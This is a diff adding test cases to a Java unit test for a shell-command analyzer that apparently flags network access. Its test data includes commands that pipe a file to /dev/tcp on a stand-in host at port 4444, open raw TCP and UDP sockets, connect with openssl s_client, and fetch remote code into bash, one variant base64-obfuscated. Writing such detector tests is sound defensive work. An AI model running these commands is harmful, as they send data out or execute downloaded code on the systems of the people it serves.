@@ -113,6 +113,13 @@ class CommandAnalyzerCasesTest {
                 c("", "ls", "-la"),
                 c("", "git", "status"),
                 c("", "sh", "-c", "ls -la && git status | grep x"),
+                c("", "bash", "-c", "[[ $x =~ ^(a|b)$ && -n \"$y\" ]] && (( z = (1+2)*3 )) && echo ok"),
+                c("curl(H) https://x.example/ []", "bash", "-c", "[[ -f /tmp/x ]] || curl https://x.example"),
+                c("/dev/tcp(R) tcp://x.example:4444/ [file:/no/such!]", "bash", "-c", "cat /no/such > /dev/tcp/x.example/4444"),
+                c("/dev/tcp(R) tcp://10.0.0.9:80/ [stdin!]", "bash", "-c", "exec 3<>/dev/tcp/10.0.0.9/80; echo hi >&3"),
+                c("/dev/udp(R) udp://x.example:53/ [arg:2]", "bash", "-c", "echo data > /dev/udp/x.example/53"),
+                c("openssl(R) tcp://x.example:443/ [stdin]", "sh", "-c", "echo hi | openssl s_client -quiet -connect x.example:443"),
+                c("", "openssl", "rand", "-hex", "16"),
                 // obfuscation
                 c("#OBF", "sh", "-c", "echo Y3VybCBodHRwczovL3guZXhhbXBsZQ== | base64 -d | sh"),
                 c("curl(H) https://x.example/ [] #OBF", "sh", "-c", "curl https://x.example | bash"),
